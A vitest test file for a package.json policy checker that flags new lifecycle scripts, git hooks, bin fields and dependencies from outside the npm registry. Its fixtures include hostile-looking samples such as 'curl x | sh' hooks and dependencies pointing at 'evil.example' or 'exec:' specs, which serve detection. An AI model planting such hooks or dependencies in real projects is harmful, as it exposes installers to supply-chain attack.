import { describe, expect, it } from 'vitest';
import { packageJsonCodeChanges, registrySpec } from '../../../src/patch/package-json-policy.js';

const PKG = `{
  "name": "x",
  "version": "1.0.0",
  "scripts": {
    "test": "jest --ci",
    "build": "tsc"
  },
  "dependencies": {
    "left-pad": "1.3.0"
  }
}
`;
const edit = (f: (o: Record<string, unknown>) => void): string => {
  const o = JSON.parse(PKG) as Record<string, unknown>;
  f(o);
  return JSON.stringify(o, null, 2);
};

describe('packageJsonCodeChanges', () => {
  it('sees a new lifecycle script however the hunk that added it looked', () => {
    const after = PKG.replace('"build": "tsc"\n  },', '"build": "tsc"\n  ,"pretest": "curl x | sh"},');
    expect(JSON.parse(after)).toBeTruthy();
    expect(packageJsonCodeChanges(PKG, after)).toEqual(['changes "scripts" (adds pretest)']);
  });

  it('sees a changed or removed script', () => {
    expect(
      packageJsonCodeChanges(
        PKG,
        edit((o) => ((o['scripts'] as Record<string, string>)['build'] = 'x')),
      ),
    ).toEqual(['changes "scripts" (changes build)']);
    expect(
      packageJsonCodeChanges(
        PKG,
        edit((o) => delete o['scripts']),
      ),
    ).toEqual(['changes "scripts" (removes test, build)']);
  });

  it.each([
    ['bin', { x: './evil.js' }],
    ['gypfile', true],
    ['workspaces', ['packages/*']],
    ['packageManager', 'yarn@4.1.0+sha256.abc'],
    ['husky', { hooks: { 'pre-commit': 'curl x | sh' } }],
    ['simple-git-hooks', { 'pre-commit': 'x' }],
    ['lint-staged', { '*.js': 'curl x | sh' }],
    ['pre-commit', ['evil']],
    ['gitHooks', { 'pre-commit': 'x' }],
    ['config', { ghooks: { 'pre-commit': 'x' } }],
    ['pnpm', { onlyBuiltDependencies: ['evil'] }],
    ['directories', { bin: './tools' }],
  ])('sees "%s" change', (field, value) => {
    expect(
      packageJsonCodeChanges(
        PKG,
        edit((o) => (o[field] = value)),
      ),
    ).toEqual([expect.stringContaining(`changes "${field}"`)]);
  });

  it('lets a reordering, a version bump and a registry dependency through', () => {
    const reordered = `{"scripts": {"build": "tsc", "test": "jest --ci"}, "name": "x", "version": "1.0.0", "dependencies": {"left-pad": "1.3.0"}}`;
    expect(packageJsonCodeChanges(PKG, reordered)).toEqual([]);
    const bumped = edit((o) => {
      o['version'] = '1.1.0';
      o['dependencies'] = { 'left-pad': '^1.3.1', lodash: '~4.17.21', next: 'latest', react: 'npm:preact@^10' };
      o['devDependencies'] = { typescript: '>=5 <6 || 4.9.x' };
    });
    expect(packageJsonCodeChanges(PKG, bumped)).toEqual([]);
  });

  it('sees dependencies that come from outside the registry', () => {
    const after = edit((o) => {
      o['dependencies'] = { 'left-pad': 'file:../evil', x: 'git+https://evil.example/x.git' };
      o['resolutions'] = { y: 'exec:./gen.js' };
      o['overrides'] = { z: { w: 'github:evil/w' } };
    });
    expect(packageJsonCodeChanges(PKG, after)).toEqual([
      'adds "dependencies.left-pad" from outside the registry ("file:../evil")',
      'adds "dependencies.x" from outside the registry ("git+https://evil.example/x.git")',
      'adds "overrides.z.w" from outside the registry ("github:evil/w")',
      'adds "resolutions.y" from outside the registry ("exec:./gen.js")',
    ]);
  });

  it('keeps a local dependency that was already there', () => {
    const local = edit((o) => (o['dependencies'] = { lib: 'file:./lib' }));
    expect(packageJsonCodeChanges(local, local.replace('"name": "x"', '"name": "y"'))).toEqual([]);
  });

  it('judges a new and a deleted package.json against nothing', () => {
    expect(packageJsonCodeChanges(null, PKG)).toEqual(['changes "scripts" (adds test, build)']);
    expect(packageJsonCodeChanges(PKG, null)).toEqual(['changes "scripts" (removes test, build)']);
    expect(packageJsonCodeChanges(null, '{"name": "lib", "dependencies": {"a": "1"}}')).toEqual([]);
  });

  it('cannot judge a text that is not a JSON object, so counts it as a change', () => {
    expect(packageJsonCodeChanges(PKG, '{ not json')).toEqual(['the new text is not a JSON object']);
    expect(packageJsonCodeChanges('[1]', PKG)).toEqual(['the old text is not a JSON object']);
    expect(packageJsonCodeChanges(`\ufeff${PKG}`, `\ufeff${PKG}`)).toEqual([]);
  });

  it('reads own keys only, __proto__ included', () => {
    expect(packageJsonCodeChanges('{}', '{"__proto__": {"scripts": {"x": "y"}}}')).toEqual([]);
    expect(packageJsonCodeChanges('{}', '{"scripts": {"__proto__": "y"}}')).toEqual([
      'changes "scripts" (adds __proto__)',
    ]);
  });
});

describe('registrySpec', () => {
  it.each(['1.2.3', '^1.2', '~1', '>=1 <2', '1.x || 2', '*', '', 'latest', 'npm:@scope/pkg@^1', 'npm:pkg'])(
    '%s is a registry version',
    (spec) => expect(registrySpec(spec)).toBe(true),
  );
  it.each([
    'file:x',
    'link:../x',
    'workspace:*',
    'github:a/b',
    'a/b',
    'https://x/y.tgz',
    'git+ssh://x',
    'exec:x',
    'patch:x',
  ])('%s is not', (spec) => expect(registrySpec(spec)).toBe(false));
});
